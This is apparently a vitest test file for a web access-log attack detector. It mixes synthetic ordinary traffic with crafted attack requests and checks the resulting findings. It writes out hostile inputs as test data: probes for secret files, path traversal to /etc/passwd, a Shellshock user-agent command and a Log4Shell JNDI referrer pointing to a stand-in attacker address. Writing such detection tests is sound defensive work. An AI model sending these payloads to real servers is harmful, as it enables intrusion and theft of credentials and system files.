/**
 * Eighty thousand requests of which a few hundred attack, each kind from an address of its own: what must be told follows from who asked for
 * what, and is the same whichever way the lines are gone through.
 */

import { describe, expect, it } from 'vitest';
import { compiledAccessScanner, plainAccessScanner } from '../src/eyes/access-scanner.ts';
import { type Asked, judged } from './web-visitors.ts';

const compiled = compiledAccessScanner(new URL('../dist/scan-access/requests.wasm', import.meta.url));

const PAGES = ['/', '/news/', '/shop?item=', '/img/logo-', '/css/site.css?v=', '/blog/2026/02/how-to-select-chair-', '/api/v1/items?page='];
const AGENTS = Array.from({ length: 60 }, (_, at) => `Mozilla/5.0 (X11; Linux x86_64; rv:${at + 70}.0) Gecko/20100101 Firefox/${at + 70}.0`);
const ORDINARY = 80_000;
const SPAN_SECONDS = 86_400;

/** No two neighbours have page, agent and referrer in common. */
const ordinary = Array.from({ length: ORDINARY }, (_, at): Asked => {
  const referrer = at % 3 === 0 ? '-' : `https://www.example.org/blog/${at % 500}`;
  return {
    second: Math.floor((at * SPAN_SECONDS) / ORDINARY),
    ip: `198.51.${at % 97}.${at % 251}`,
    ask: `${at % 50 === 0 ? 'HEAD' : at % 40 === 0 ? 'POST' : 'GET'} ${PAGES[at % PAGES.length]}${at % 900}`,
    status: at % 13 === 0 ? 304 : 200,
    bytes: 500 + (at % 9_000),
    referrer,
    agent: AGENTS[at % AGENTS.length] ?? '',
  };
});

const from = (ip: string, first: number, step: number, asks: readonly (string | Omit<Asked, 'second'>)[], all: Omit<Asked, 'second'> = {}): Asked[] =>
  asks.map((ask, at) => ({ second: first + at * step, ip, ...all, ...(typeof ask === 'string' ? { ask } : ask) }));
const times = <T>(count: number, one: T): T[] => Array.from({ length: count }, () => one);

const PROBER = '203.0.113.10';
const TOOL = '203.0.113.11';
const SEEKER = '203.0.113.12';
const GUESSER = '203.0.113.13';
const NAMED = '203.0.113.14';
const READER = '203.0.113.15';
const HEADED = '203.0.113.16';
const HOLES = [
  '/.env',
  '/.git/config',
  '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php',
  '/actuator/env',
  '/wp-config.php.bak',
  '/server-status',
];

const attacks: readonly Asked[] = [
  // Six weak places, five times each: 30 refusals.
  ...from(
    PROBER,
    5_000,
    3,
    times(
      5,
      HOLES.map((path) => `GET ${path}`),
    ).flat(),
    { status: 404, bytes: 162 },
  ),
  // A tool that says who it is, and asks for a page that is there.
  ...from(TOOL, 9_000, 1, times(8, 'GET /news/1'), { agent: 'sqlmap/1.8.3#stable (https://sqlmap.org)' }),
  // 80 names that are not there, within two and a half minutes.
  ...from(
    SEEKER,
    20_000,
    2,
    Array.from({ length: 80 }, (_, at) => `GET /directory${at}/`),
    { status: 404, bytes: 162 },
  ),
  // 45 passwords in as many seconds, and no success.
  ...from(GUESSER, 30_000, 1, times(45, 'POST /wp-login.php'), { status: 200, bytes: 7_100 }),
  // A name that is refused 12 times, then comes in to a plain page.
  ...from(NAMED, 40_000, 4, times(12, { ask: 'GET /closed/', status: 401, bytes: 381 }), { user: 'jane' }),
  ...from(NAMED, 40_100, 1, ['GET /closed/'], { user: 'jane' }),
  // The way up, answered once with what no other page has.
  ...from(READER, 50_000, 5, [
    { ask: 'GET /download.php?file=../../../etc/nothing', bytes: 312 },
    { ask: 'GET /download.php?file=..%2f..%2f..%2fetc%2fpasswd', bytes: 1_843 },
  ]),
  // Nothing but the referrer and the agent attack.
  ...from(HEADED, 60_000, 7, times(12, 'GET /news/2'), { agent: '() { :; }; /bin/cat /etc/passwd', referrer: '${jndi:ldap://203.0.113.99/a}' }),
];

/** Numbers of the lines of an address, as the log has them in the order of time. */
function linesOf(ip: string): ReadonlySet<number> {
  const sorted = [...ordinary, ...attacks].sort((a, b) => a.second - b.second);
  return new Set(sorted.flatMap((asked, at) => (asked.ip === ip ? [at + 1] : [])));
}

async function told(accessScanner = plainAccessScanner()) {
  const report = await judged([...ordinary, ...attacks], accessScanner);
  const { findings } = report;
  const log = report.coverage.find(({ source }) => source.endsWith('access.log'));
  return { findings, log, verdict: report.verdict };
}

describe('a mixed log', () => {
  it('has what follows from its composition, and nothing else', { timeout: 60_000 }, async () => {
    const { findings, log, verdict } = await told();
    expect(log).toMatchObject({ state: 'read', lines: ORDINARY + attacks.length });
    expect(verdict).toBe('compromised');
    const found = findings.map(({ detector, culprit, tells, seen, figures }) => ({
      detector,
      who: culprit.map((one) => (one.is === 'address' ? one.ip : one.is)).join(),
      tells,
      seen,
      figures,
    }));
    const figures = (of: Record<string, number>) => expect.objectContaining(of);
    expect(found.filter(({ detector }) => detector === 'web-scanner').sort((a, b) => (a.who < b.who ? -1 : 1))).toEqual([
      { detector: 'web-scanner', who: PROBER, tells: 'attack', seen: 30, figures: figures({ weakPlaces: 6, distinctTargets: 6, refused: 30 }) },
      { detector: 'web-scanner', who: TOOL, tells: 'attack', seen: 1, figures: figures({ weakPlaces: 0, refused: 0 }) },
      { detector: 'web-scanner', who: SEEKER, tells: 'attack', seen: 80, figures: figures({ distinctTargets: 80, refused: 80 }) },
    ]);
    expect(found.filter(({ detector }) => detector === 'web-guessing').sort((a, b) => (a.who < b.who ? -1 : 1))).toEqual([
      { detector: 'web-guessing', who: GUESSER, tells: 'attack', seen: 45, figures: { failures: 45, names: 0, spanMs: 44_000 } },
      { detector: 'web-guessing', who: NAMED, tells: 'compromise', seen: 12, figures: { failures: 12, names: 1, spanMs: 44_000 } },
    ]);
    const exploits = found.filter(({ detector }) => detector === 'web-exploit');
    expect(exploits.find(({ who }) => who === READER)?.tells).toBe('compromise');
    expect(exploits.find(({ who }) => who === HEADED)?.tells).toBe('attack');
    const guilty = new Set([PROBER, TOOL, SEEKER, GUESSER, NAMED, READER, HEADED]);
    expect(new Set(found.map(({ who }) => who))).toEqual(guilty);
    for (const { culprit, evidence } of findings) {
      const lines = culprit[0]?.is === 'address' ? linesOf(culprit[0].ip) : new Set();
      for (const { line } of evidence) expect(lines).toContain(line);
    }
  });

  it.skipIf(compiled === null)('is judged the same with WebAssembly', { timeout: 60_000 }, async () => {
    expect(await told(compiled ?? plainAccessScanner())).toEqual(await told());
  });
});
